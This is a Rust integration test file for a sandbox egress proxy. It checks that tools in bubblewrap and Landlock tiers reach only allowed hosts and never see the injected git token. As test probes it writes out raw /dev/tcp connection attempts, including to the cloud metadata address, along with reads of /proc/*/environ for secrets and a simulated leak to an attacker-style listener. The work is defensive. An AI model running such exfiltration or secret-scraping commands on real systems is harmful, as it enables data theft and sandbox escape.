//! The proxy from inside the isolation tiers, with real curl and git run with a session's tool
//! environment:
//! - tier 2 (bubblewrap, no network): tools reach the proxy only through the relay on the
//!   sandbox's own loopback, and trust intercepted hosts through the CA bundle bound in
//!   read-only;
//! - tier 1 (Landlock, seccomp): tools share the host's network, and may connect to the proxy's
//!   port and no other.
//!
//! When the host cannot run a tier its tests are skipped with a printed reason, unless
//! `REQUIRE_ISOLATION=1` is set (CI): then they fail.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

// This test binary is the tier-1 helper of the processes it starts under tier 1.
hands_sandbox::helper_dispatch_for_tests!();

use std::net::IpAddr;
use std::path::{Path, PathBuf};

use hands_egress::{EgressConfig, EgressProxy, Policy, Resolver, StaticSecrets, UpstreamRoots};
use hands_sandbox::{
    EgressBridge, EnvPolicy, HostProbe, Isolation, IsolationMode, OneShotSpec, Rlimits, Tier,
    Tier1Options, Tier2Options,
};
use support::{TestCa, Upstream, start_upstream};
use tokio::io::AsyncReadExt;

const POLICY: &str = r#"
[[rule]]
host = "git.test"
private = true
action = "inject"
basic_auth = { username = "x-access-token", password = "{secret:git_token}" }

[[rule]]
host = "echo.test"
private = true
action = "inject"
headers = { Authorization = "Bearer {secret:git_token}" }
"#;

struct Harness {
    dir: tempfile::TempDir,
    canary: String,
    upstream: Upstream,
    proxy: EgressProxy,
    isolation: Isolation,
}

fn required() -> bool {
    std::env::var("REQUIRE_ISOLATION").is_ok_and(|v| v == "1")
}

impl Harness {
    /// `None` (after saying why) when `tier` cannot run here.
    async fn new(tier: Tier) -> Option<Harness> {
        let probe = HostProbe::run();
        let usable: Result<(), String> = match tier {
            // Connecting to the proxy's port only needs Landlock's network rules.
            Tier::Landlock if !probe.tier1_net_rules() => Err("no Landlock network rules".into()),
            _ => probe
                .select(IsolationMode::Tier(tier), true)
                .map(|_| ())
                .map_err(|e| e.to_string()),
        };
        if let Err(e) = usable {
            if required() {
                panic!(
                    "REQUIRE_ISOLATION=1 but tier {} cannot engage: {e}",
                    tier.number()
                );
            }
            eprintln!("skipping the tier {} egress tests: {e}", tier.number());
            return None;
        }
        let dir = tempfile::tempdir().unwrap();
        let canary = format!(
            "canary{:016x}{:016x}",
            rand::random::<u64>(),
            rand::random::<u64>()
        );
        let ca = TestCa::new(dir.path());
        let repos = dir.path().join("srv");
        std::fs::create_dir_all(&repos).unwrap();
        let upstream = start_upstream(
            Some(ca.server_config(&["git.test", "echo.test"])),
            Some(repos),
            canary.clone(),
        )
        .await;
        let loopback: Vec<IpAddr> = vec!["127.0.0.1".parse().unwrap()];
        let proxy = EgressProxy::start(
            EgressConfig {
                policy: Policy::parse(POLICY, "tier2-policy.toml").unwrap(),
                listen: "127.0.0.1:0".parse().unwrap(),
                upstream_roots: UpstreamRoots::Only(ca.pem_path.clone()),
                resolver: Resolver::system()
                    .pin("git.test", loopback.clone())
                    .pin("echo.test", loopback),
                // Under the host's /tmp, which the sandbox replaces with its own: only the
                // read-only bind below shows it inside.
                bundle_dir: dir.path().join("egress-ca"),
            },
            &StaticSecrets::new().with("git_token", &canary),
        )
        .await
        .unwrap();
        // What `hands` does at each tier (functions/hands/src/egress_cmd.rs).
        let addr = proxy.addr();
        let isolation = match tier {
            Tier::Bwrap => Isolation::Bwrap(probe.bwrap_sandbox(Tier2Options {
                egress: Some(EgressBridge::new(addr.port(), addr)),
                read_only: vec![proxy.ca_bundle().parent().unwrap().to_path_buf()],
                ..Tier2Options::default()
            })?),
            Tier::Landlock => Isolation::Landlock(probe.tier1_sandbox(Tier1Options {
                proxy_port: Some(addr.port()),
                ..Tier1Options::default()
            })?),
            Tier::None => Isolation::Tier0,
        };
        Some(Harness {
            dir,
            canary,
            upstream,
            proxy,
            isolation,
        })
    }

    /// Runs `script` with bash in a tier-2 sandbox whose workspace is `work`, with a cleared
    /// environment plus `session_env`; returns (exit code, stdout and stderr).
    async fn sandboxed(
        &self,
        work: &Path,
        session_env: &[(String, String)],
        script: &str,
    ) -> (i32, String) {
        let mut env = EnvPolicy::default().build(std::env::vars_os());
        for (k, v) in [
            ("HOME", work.join("home").to_str().unwrap()),
            ("GIT_CONFIG_NOSYSTEM", "1"),
            ("GIT_TERMINAL_PROMPT", "0"),
            ("GIT_AUTHOR_NAME", "agent"),
            ("GIT_AUTHOR_EMAIL", "agent@example.com"),
            ("GIT_COMMITTER_NAME", "agent"),
            ("GIT_COMMITTER_EMAIL", "agent@example.com"),
        ] {
            env.push((k.into(), v.into()));
        }
        env.extend(
            session_env
                .iter()
                .map(|(k, v)| (k.clone().into(), v.clone().into())),
        );
        let spec = OneShotSpec {
            program: "/bin/bash".into(),
            args: vec!["-c".into(), format!("exec 2>&1\n{script}").into()],
            cwd: work.to_path_buf(),
            env,
            rlimits: Rlimits::default(),
            isolation: self.isolation.clone(),
            binds: Default::default(),
        };
        let mut p = hands_sandbox::spawn_oneshot(&spec).await.unwrap();
        assert_eq!(
            p.egress_relay.is_some(),
            self.isolation.tier() == Tier::Bwrap,
            "a relay into the sandbox exactly in tier 2"
        );
        drop(p.stdin);
        let mut out = String::new();
        p.stdout.read_to_string(&mut out).await.unwrap();
        let status = p.child.wait().await.unwrap();
        (status.code().unwrap_or(-1), out)
    }

    fn workspace(&self, name: &str) -> PathBuf {
        let work = self.dir.path().join(name);
        std::fs::create_dir_all(work.join("home")).unwrap();
        work
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_in_tier2_reaches_an_injected_host_and_nothing_else() {
    let Some(h) = Harness::new(Tier::Bwrap).await else {
        return;
    };
    let session = h.proxy.open_session("sesn_tier2_curl");
    let work = h.workspace("curl");
    let port = h.upstream.addr.port();
    // The injected host is intercepted: curl verifies the proxy's leaf with the bundle alone
    // (no -k), so the bundle is visible inside, and the upstream got the secret.
    let (code, out) = h
        .sandboxed(
            &work,
            &session.env,
            &format!(
                "test -r \"$CURL_CA_BUNDLE\" && grep -c 'hands egress proxy' \"$CURL_CA_BUNDLE\"\n\
                 curl -sS --max-time 20 https://echo.test:{port}/echo"
            ),
        )
        .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.starts_with("1\n"), "{out}");
    assert!(out.contains("host: echo.test"), "{out}");
    assert!(
        out.contains("[secret removed by hands egress proxy]"),
        "{out}"
    );
    assert!(!out.contains(&h.canary), "{out}");
    let seen = h.upstream.seen.authorizations.lock().unwrap().clone();
    assert_eq!(seen, vec![format!("Bearer {}", h.canary)]);

    // Without the proxy nothing leaves: the upstream's own port on the host's loopback is not
    // the sandbox's loopback, other addresses have no route, and curl told to skip the proxy
    // fails the same way.
    let (_, out) = h
        .sandboxed(
            &work,
            &session.env,
            &format!(
                "(echo x > /dev/tcp/127.0.0.1/{port}) ; (echo x > /dev/tcp/10.0.0.1/443) ; \
                 (echo x > /dev/tcp/169.254.169.254/80) ; \
                 curl -sS --max-time 5 --noproxy '*' -k https://echo.test:{port}/echo ; \
                 curl -sS --max-time 5 --noproxy '*' -k https://127.0.0.1:{port}/echo ; true"
            ),
        )
        .await;
    assert!(
        out.contains(&format!("/dev/tcp/127.0.0.1/{port}: Connection refused")),
        "{out}"
    );
    assert!(
        out.contains("/dev/tcp/10.0.0.1/443: Network is unreachable"),
        "{out}"
    );
    assert!(
        out.contains("/dev/tcp/169.254.169.254/80: Network is unreachable"),
        "{out}"
    );
    assert!(out.contains("Could not resolve host: echo.test"), "{out}");
    assert!(out.contains("Failed to connect to 127.0.0.1"), "{out}");
    assert_eq!(h.upstream.seen.authorizations.lock().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_clone_commit_push_in_tier2_with_the_token_nowhere_inside() {
    let Some(h) = Harness::new(Tier::Bwrap).await else {
        return;
    };
    let bare = h.dir.path().join("srv/repo.git");
    for args in [
        vec![
            "init",
            "--quiet",
            "--bare",
            "-b",
            "main",
            bare.to_str().unwrap(),
        ],
        vec![
            "-C",
            bare.to_str().unwrap(),
            "config",
            "http.receivepack",
            "true",
        ],
    ] {
        let status = std::process::Command::new("git")
            .args(&args)
            .status()
            .unwrap();
        assert!(status.success());
    }
    let session = h.proxy.open_session("sesn_tier2_git");
    let work = h.workspace("git");
    let url = format!("https://git.test:{}/git/repo.git", h.upstream.addr.port());
    let (code, out) = h
        .sandboxed(
            &work,
            &session.env,
            &format!(
                "set -e\n\
                 git clone -q {url} clone\n\
                 cd clone\n\
                 echo 'hello from tier 2' > hello.txt\n\
                 git add hello.txt\n\
                 git commit -q -m first\n\
                 git push -q origin HEAD:refs/heads/main\n\
                 cd ..\n\
                 git clone -q {url} again\n\
                 cat again/hello.txt\n\
                 echo ---\n\
                 env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; git -C clone config -l\n\
                 cat \"$SSL_CERT_FILE\"; ls -a \"$HOME\""
            ),
        )
        .await;
    assert_eq!(code, 0, "{out}");
    let (before, after) = out.split_once("---\n").unwrap();
    // (git warns first that the repository it cloned was empty)
    assert!(before.ends_with("\nhello from tier 2\n"), "{out}");
    assert!(after.contains("HTTPS_PROXY=http://s"), "{after}");
    assert!(after.contains("remote.origin.url="), "{after}");
    assert!(!after.contains(".git-credentials"), "{after}");
    assert!(
        !out.contains(&h.canary),
        "the token reached the sandbox: {out}"
    );
    // The upstream received the token on every git request (so the check above can fail).
    let seen = h.upstream.seen.authorizations.lock().unwrap().clone();
    assert!(seen.len() >= 4, "{seen:?}");
    for f in walk(&work) {
        let bytes = std::fs::read(&f).unwrap();
        assert!(
            memchr::memmem::find(&bytes, h.canary.as_bytes()).is_none(),
            "{f:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_in_tier1_reaches_the_proxy_and_no_other_port() {
    let Some(h) = Harness::new(Tier::Landlock).await else {
        return;
    };
    let session = h.proxy.open_session("sesn_tier1_curl");
    let work = h.workspace("curl1");
    let port = h.upstream.addr.port();
    let (code, out) = h
        .sandboxed(
            &work,
            &session.env,
            &format!("curl -sS --max-time 20 https://echo.test:{port}/echo"),
        )
        .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("host: echo.test"), "{out}");
    assert!(
        out.contains("[secret removed by hands egress proxy]"),
        "{out}"
    );
    assert!(!out.contains(&h.canary), "{out}");
    assert_eq!(h.upstream.seen.authorizations.lock().unwrap().len(), 1);
    // The upstream is on this very loopback, one port away from the proxy: Landlock refuses it.
    let (_, out) = h
        .sandboxed(
            &work,
            &session.env,
            &format!(
                "(echo x > /dev/tcp/127.0.0.1/{port}) ; \
                 curl -sS --max-time 5 --noproxy '*' -k --resolve echo.test:{port}:127.0.0.1 \
                 https://echo.test:{port}/echo ; true"
            ),
        )
        .await;
    assert!(
        out.contains(&format!("/dev/tcp/127.0.0.1/{port}: Permission denied")),
        "{out}"
    );
    assert!(out.contains("Failed to connect to echo.test"), "{out}");
    assert_eq!(h.upstream.seen.authorizations.lock().unwrap().len(), 1);
}

/// Pins a limit of tier 1 (README "Egress proxy", Limits): Landlock's network rule matches the
/// port, not the address, so a listener of anyone's on another address at the proxy's port is
/// reachable from tool code, around the policy. Tier 2 is the closed network.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tier1_reaches_any_address_at_the_proxys_port() {
    use std::io::Read as _;
    let Some(h) = Harness::new(Tier::Landlock).await else {
        return;
    };
    let port = h.proxy.addr().port();
    // Another loopback address, the proxy's port: what an attacker's server would look like.
    let Ok(outside) = std::net::TcpListener::bind(("127.0.0.2", port)) else {
        eprintln!("skipping: 127.0.0.2:{port} cannot be bound here");
        return;
    };
    let received = std::thread::spawn(move || {
        let (mut s, _) = outside.accept().unwrap();
        let mut got = String::new();
        s.read_to_string(&mut got).unwrap();
        got
    });
    let session = h.proxy.open_session("sesn_tier1_port");
    let work = h.workspace("port1");
    let (code, out) = h
        .sandboxed(
            &work,
            &session.env,
            &format!("echo leaked > /dev/tcp/127.0.0.2/{port}"),
        )
        .await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(received.join().unwrap(), "leaked\n");
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() && !p.is_symlink() {
                stack.push(p)
            } else if p.is_file() {
                out.push(p)
            }
        }
    }
    out
}
